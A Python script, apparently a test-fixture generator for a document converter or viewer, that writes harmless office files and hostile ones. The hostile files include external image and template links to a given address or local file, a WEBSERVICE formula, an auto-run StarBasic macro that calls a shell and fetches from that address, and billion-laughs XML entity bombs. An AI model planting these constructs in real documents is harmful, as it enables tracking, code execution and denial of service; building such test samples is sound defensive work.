"""Writes small documents of office programs into the folder that is the first argument, and hostile ones. Each shows a red
field and black letters on its first page. The second argument is the address that the hostile ones lead to; they also lead
to a green picture in the folder."""

import struct
import sys
import zipfile
import zlib
from pathlib import Path

FOLDER = Path(sys.argv[1])
FOLDER.mkdir(exist_ok=True)
OUTSIDE = sys.argv[2]
SECRET = FOLDER / "secret.png"

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHOW = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
TYPE = "application/vnd.openxmlformats-officedocument"
WORDS = " ".join(["Letters"] * 12)


def write(name, parts):
    with zipfile.ZipFile(FOLDER / name, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            stored = zipfile.ZIP_STORED if part == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(part, content, compress_type=stored)


def relations(*targets):
    """Of (kind, target, mode)."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(targets, 1)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'


def types(parts):
    rows = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in parts.items())
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>{rows}</Types>'
    )


INSIDE = ""
EXTERNAL = ' TargetMode="External"'


def word(body, extra=(), more=None):
    main = "application/vnd.ms-word.document.macroEnabled.main+xml" if more else f"{TYPE}.wordprocessingml.document.main+xml"
    return {
        "[Content_Types].xml": types({"/word/document.xml": main}),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", INSIDE)),
        "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}" xmlns:a="{DRAWING}" '
        f'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        f'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations(*extra),
        **(more or {}),
    }


RED_WORDS = (
    '<w:p><w:pPr><w:shd w:val="clear" w:color="auto" w:fill="FF0000"/></w:pPr><w:r><w:t> </w:t></w:r></w:p>'
    f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"
)


def linked_picture(target):
    """A picture that is not in the document."""
    size = 'cx="3000000" cy="3000000"'
    return (
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent {size}/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData '
        f'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{target}"/><a:stretch><a:fillRect/></a:stretch>'
        f'</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext {size}/></a:xfrm><a:prstGeom prst="rect"/>'
        f"</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def excel(cells):
    return {
        "[Content_Types].xml": types(
            {
                "/xl/workbook.xml": f"{TYPE}.spreadsheetml.sheet.main+xml",
                "/xl/worksheets/sheet1.xml": f"{TYPE}.spreadsheetml.worksheet+xml",
                "/xl/styles.xml": f"{TYPE}.spreadsheetml.styles+xml",
            }
        ),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", INSIDE)),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
        f'<sheet name="Prices" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            ("worksheet", "worksheets/sheet1.xml", INSIDE), ("styles", "styles.xml", INSIDE)
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData>{cells}</sheetData></worksheet>',
        "xl/styles.xml": f'<styleSheet xmlns="{SHEET}"><fonts count="1"><font/></fonts><fills count="3"><fill/>'
        f'<fill><patternFill patternType="gray125"/></fill><fill><patternFill patternType="solid">'
        f'<fgColor rgb="FFFF0000"/></patternFill></fill></fills><borders count="1"><border/></borders>'
        f'<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf/><xf fillId="2" applyFill="1"/></cellXfs>'
        f"</styleSheet>",
    }


RED_CELLS = (
    '<row r="1" ht="60" customHeight="1"><c r="A1" s="1"/></row>'
    f'<row r="2"><c r="A2" t="inlineStr"><is><t>{WORDS}</t></is></c></row>'
)


def shape(number, place, inside):
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{number}" name="s"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm>{place}</a:xfrm>'
        f'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom>{inside}</p:sp>'
    )


def power_point():
    tree = "<p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    red = '<a:solidFill><a:srgbClr val="FF0000"/></a:solidFill></p:spPr>'
    text = (
        f'</p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:rPr sz="2400"/><a:t>{WORDS}</a:t></a:r></a:p></p:txBody>'
    )
    place = '<a:off x="{}" y="{}"/><a:ext cx="6000000" cy="2000000"/>'
    shapes = shape(2, place.format(500000, 500000), red) + shape(3, place.format(500000, 3500000), text)
    names = f'xmlns:p="{SHOW}" xmlns:a="{DRAWING}" xmlns:r="{OFFICE}"'
    return {
        "[Content_Types].xml": types(
            {
                "/ppt/presentation.xml": f"{TYPE}.presentationml.presentation.main+xml",
                "/ppt/slides/slide1.xml": f"{TYPE}.presentationml.slide+xml",
                "/ppt/slideMasters/slideMaster1.xml": f"{TYPE}.presentationml.slideMaster+xml",
                "/ppt/slideLayouts/slideLayout1.xml": f"{TYPE}.presentationml.slideLayout+xml",
            }
        ),
        "_rels/.rels": relations(("officeDocument", "ppt/presentation.xml", INSIDE)),
        "ppt/presentation.xml": f'<p:presentation {names}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/>'
        f'</p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
        f'<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>',
        "ppt/_rels/presentation.xml.rels": relations(
            ("slideMaster", "slideMasters/slideMaster1.xml", INSIDE), ("slide", "slides/slide1.xml", INSIDE)
        ),
        "ppt/slides/slide1.xml": f"<p:sld {names}><p:cSld><p:spTree>{tree}{shapes}</p:spTree></p:cSld></p:sld>",
        "ppt/slides/_rels/slide1.xml.rels": relations(("slideLayout", "../slideLayouts/slideLayout1.xml", INSIDE)),
        "ppt/slideLayouts/slideLayout1.xml": f"<p:sldLayout {names}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld></p:sldLayout>",
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": relations(
            ("slideMaster", "../slideMasters/slideMaster1.xml", INSIDE)
        ),
        "ppt/slideMasters/slideMaster1.xml": f"<p:sldMaster {names}><p:cSld><p:spTree>{tree}</p:spTree></p:cSld>"
        f'<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" '
        f'accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>'
        f'<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>',
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": relations(
            ("slideLayout", "../slideLayouts/slideLayout1.xml", INSIDE)
        ),
    }


OPEN = "urn:oasis:names:tc:opendocument:xmlns"
NAMES = (
    f'xmlns:office="{OPEN}:office:1.0" xmlns:text="{OPEN}:text:1.0" xmlns:table="{OPEN}:table:1.0" '
    f'xmlns:style="{OPEN}:style:1.0" xmlns:draw="{OPEN}:drawing:1.0" xmlns:script="{OPEN}:script:1.0" '
    f'xmlns:fo="{OPEN}:xsl-fo-compatible:1.0" xmlns:svg="{OPEN}:svg-compatible:1.0" '
    f'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:manifest="{OPEN}:manifest:1.0" office:version="1.3"'
)


def open_document(kind, styles, body, more=None, manifest=""):
    mime = f"application/vnd.oasis.opendocument.{kind}"
    return {
        "mimetype": mime,
        "content.xml": f"<office:document-content {NAMES}><office:automatic-styles>{styles}</office:automatic-styles>"
        f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>",
        "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="{OPEN}:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
        f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{manifest}'
        f"</manifest:file-entry></manifest:manifest>",
        **(more or {}),
    }


RED_PARAGRAPH = (
    '<style:style style:name="R" style:family="paragraph"><style:paragraph-properties fo:background-color="#ff0000"/>'
    "</style:style>"
)
RED_TEXT = f'<text:p text:style-name="R"> </text:p><text:p>{WORDS}</text:p>'


def linked(target):
    """A picture and a section that are not in the document."""
    return (
        f'<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="{target}" xlink:type="simple" '
        f'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="s">'
        f'<text:section-source xlink:href="{target}" xlink:type="simple"/><text:p>old</text:p></text:section>'
    )


write("letter.docx", word(RED_WORDS))
write("prices.xlsx", excel(RED_CELLS))
write("show.pptx", power_point())
write("letter.odt", open_document("text", RED_PARAGRAPH, RED_TEXT))
write(
    "prices.ods",
    open_document(
        "spreadsheet",
        '<style:style style:name="R" style:family="table-cell"><style:table-cell-properties '
        'fo:background-color="#ff0000"/></style:style><style:style style:name="H" style:family="table-row">'
        '<style:table-row-properties style:row-height="2cm"/></style:style>',
        '<table:table table:name="Prices"><table:table-row table:style-name="H"><table:table-cell table:style-name="R"/>'
        f'</table:table-row><table:table-row><table:table-cell office:value-type="string"><text:p>{WORDS}</text:p>'
        "</table:table-cell></table:table-row></table:table>",
    ),
)
write(
    "show.odp",
    open_document(
        "presentation",
        '<style:style style:name="R" style:family="graphic"><style:graphic-properties draw:fill="solid" '
        'draw:fill-color="#ff0000" draw:stroke="none"/></style:style>',
        '<draw:page draw:name="1"><draw:rect draw:style-name="R" svg:x="2cm" svg:y="2cm" svg:width="12cm" '
        'svg:height="5cm"/><draw:frame svg:x="2cm" svg:y="10cm" svg:width="12cm" svg:height="5cm"><draw:text-box>'
        f"<text:p>{WORDS}</text:p></draw:text-box></draw:frame></draw:page>",
    ),
)
(FOLDER / "letter.rtf").write_text(
    r"{\rtf1\ansi{\colortbl;\red255\green0\blue0;}\pard\cbpat1\fs48 \~\par\pard " + WORDS + r"\par}"
)

# What leads out of the document: over the network, and to a file of this machine.
chunks = [
    (b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0)),
    (b"IDAT", zlib.compress((b"\0" + b"\0\xff\0" * 9) * 9)),
    (b"IEND", b""),
]
png = b"".join(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks)
SECRET.write_bytes(b"\x89PNG\r\n\x1a\n" + png)
for name, target in [("network", f"{OUTSIDE}/picture.png"), ("file", SECRET.as_uri())]:
    template = ("attachedTemplate", f"{OUTSIDE}/template.dotm", EXTERNAL)
    pictures = [("image", target, EXTERNAL), template]
    write(f"{name}.docx", word(linked_picture("rId1") + RED_WORDS, pictures))
    write(f"{name}.odt", open_document("text", RED_PARAGRAPH, linked(target) + RED_TEXT))
cell = f'<row r="1"><c r="A1" s="1"><f>WEBSERVICE("{OUTSIDE}/cell")</f></c></row>'
write("network.xlsx", excel(cell + RED_CELLS.replace('r="1"', 'r="3"').replace("A1", "A3")))

# A macro that runs when the document is opened, and would tell so over the network and in a file.
BASIC = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
Sub AutoOpen
  Shell("/bin/sh", 0, "-c 'touch {FOLDER}/macro-ran'")
  Open "{FOLDER}/macro-ran" For Output As #1
  Dim service : service = createUnoService("com.sun.star.ucb.SimpleFileAccess")
  service.openFileRead("{OUTSIDE}/macro")
  ThisComponent.Text.String = "the macro ran"
End Sub
</script:module>"""
LIBRARY = '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>'
LIBRARIES = '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>'
ON_LOAD = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&amp;location=document" xlink:type="simple"/>'
    "</office:event-listeners>"
)
macro = open_document(
    "text",
    RED_PARAGRAPH,
    RED_TEXT,
    {
        "Basic/script-lc.xml": LIBRARIES,
        "Basic/Standard/script-lb.xml": LIBRARY,
        "Basic/Standard/Module1.xml": BASIC,
    },
)
macro["content.xml"] = macro["content.xml"].replace(
    "<office:automatic-styles>", f"<office:scripts>{ON_LOAD}</office:scripts><office:automatic-styles>"
)
files = "".join(
    f'<manifest:file-entry manifest:full-path="{part}" manifest:media-type="text/xml"/>' for part in macro if part.startswith("Basic/")
)
macro["META-INF/manifest.xml"] = macro["META-INF/manifest.xml"].replace("</manifest:manifest>", files + "</manifest:manifest>")
write("macro.odt", macro)

# What is no document, or more than one may be.
write("encrypted.odt", open_document("text", "", RED_TEXT, manifest="<manifest:encryption-data/>"))
write("drawing.odg", open_document("drawing", "", ""))
write("archive.zip", {"notes.txt": "nothing of a document"})
entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
laughs = word(RED_WORDS)
laughs["word/document.xml"] = (
    f'<!DOCTYPE d [<!ENTITY e0 "ha">{entities}]>' + laughs["word/document.xml"].replace(WORDS, "&e9;")
)
write("laughs.docx", laughs)
hidden = f'<?xml version="1.0" encoding="UTF-16"?><!-- < -->\n{laughs["word/document.xml"]}'
write("laughs-utf16.docx", {**laughs, "word/document.xml": hidden.encode("utf-16")})
typed = word(RED_WORDS)
typed["word/document.xml"] = '<!DOCTYPE d PUBLIC "d" "d.dtd">' + typed["word/document.xml"].replace(WORDS, "&lt;!ENTITY")
write("typed.docx", typed)
broken = word(RED_WORDS)
broken["word/document.xml"] = broken["word/document.xml"][:200]
write("broken.docx", broken)
whole = (FOLDER / "letter.docx").read_bytes()
(FOLDER / "cut.docx").write_bytes(whole[: len(whole) // 2])
